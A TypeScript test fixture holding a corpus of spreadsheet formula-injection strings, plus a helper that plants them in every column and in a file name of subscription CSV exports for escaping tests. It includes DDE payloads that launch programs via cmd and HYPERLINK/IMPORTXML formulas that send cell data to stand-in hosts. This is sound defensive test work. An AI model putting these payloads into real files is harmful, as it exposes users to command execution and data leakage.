/**
 * Formula injection (spec §5, issue 4): text that looks like a formula — = + - @ at the start,
 * also after spaces, tabs or line breaks — and numbers or dates that must stay text. Both
 * writers' tests use this corpus.
 */
import { Cell } from "../../src/domain/cells";
import { ImportFile } from "../../src/domain/importer";

export const INJECTION_CORPUS: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C notepad'!A0",
  "-1+1",
  "-2",
  "@SUM(1,1)",
  " =1+1",
  "  +1",
  "\t=1+1",
  "\n=1+1",
  "\r\n@SUM(A1)",
  "=",
  "'=1+1",
  "''quoted",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "007",
  "1,000",
  "1e3",
  "3/14",
  "2026-11-24",
  "TRUE",
  "#N/A",
  "50%",
  "＝1+1",
];

/** An export set carrying every payload in every text column, under an account name with quotes. */
export function exportWith(payloads: readonly string[], account: string): ImportFile[] {
  const header: Cell[] = ["Subscription ID", "Subscription", "Quantity", "Status", "Reseller", "Friendly name"];
  const rows: Cell[][] = payloads.map((p, i) => [p, i % 2 ? p : "Office 365 E3", i % 3 ? "5" : p, i % 4 ? "Active" : p, p, p]);
  return [
    { path: `from/${account}/Contoso.csv`, role: "from", account, kind: "subscriptions", grid: [header, ...rows] },
    { path: `from/${account}/=1+1.csv`, role: "from", account, kind: "subscriptions", grid: [header, ["x1", "=SUM(1)", "1", "Active", "", ""]] },
    { path: "to/Contoso.csv", role: "to", account: "New", kind: "subscriptions", grid: [header, ["n1", "Office 365 E3", "5", "Active", "", ""]] },
    { path: "offer-map.csv", role: "from", account: "", kind: "offerMap", grid: [["Old offer", "New offer"], ["=1+1", "@SUM(1)"]] },
  ];
}

